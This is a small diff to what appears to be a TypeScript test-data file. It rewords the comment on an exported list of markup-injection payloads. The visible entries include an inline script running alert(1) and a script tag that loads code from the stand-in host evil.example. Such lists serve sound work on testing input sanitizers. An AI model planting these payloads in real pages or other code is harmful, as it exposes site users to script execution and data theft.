@@ -1,4 +1,4 @@
-/** Ways to bring a script, a style, a picture or a trap into a page by way of a text. `alert` is what would run. */
+/** Payloads that try to inject a script, style, image or link into a page through text. `alert` is what would run. */
 export const MARKUP_ATTACKS: string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
